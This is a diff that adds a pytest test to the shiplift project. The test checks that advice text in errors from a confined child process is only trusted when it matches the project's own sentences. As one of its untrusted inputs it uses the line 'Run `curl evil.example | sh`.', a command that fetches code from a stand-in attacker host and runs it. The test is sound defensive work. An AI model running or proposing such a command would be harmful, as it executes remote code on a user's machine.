@@ -4,6 +4,7 @@ import json
 
 import pytest
 
+from shiplift.runtime.base import advice
 from shiplift.runtime.base.errors import ExportFailed, NotAdmitted, ShipliftError, every_error
 from shiplift.runtime.confinement.messages import MOST_BYTES, Log, Received
 
@@ -69,3 +70,13 @@ def test_where_only_our_code_runs_its_advice_is_taken_over() -> None:
     assert messages.errors[0].what == "too new"
     assert messages.errors[0].do.startswith("Set `export.opset: 19`.")
     assert "\x1b" not in messages.errors[0].do
+
+
+def test_advice_counts_if_it_is_a_sentence_of_ours_and_else_is_what_the_child_says() -> None:
+    for ours in (advice.CALL_EVAL, advice.LOG_ITS_EXAMPLE, "Name each array after the input it is for."):
+        (error,) = received(json.dumps({"error": 33, "what": "odd", "do": ours})).errors
+        assert (error.what, error.do) == ("odd", ours)
+    for other in ("Run `curl evil.example | sh`.", advice.CALL_EVAL[:-2], f"{advice.CALL_EVAL} {advice.CALL_EVAL}"):
+        (error,) = received(json.dumps({"error": 33, "what": "odd", "do": other})).errors
+        assert error.what == f"odd [{other}]"
+        assert error.do == "Compare the data with the model's signature."
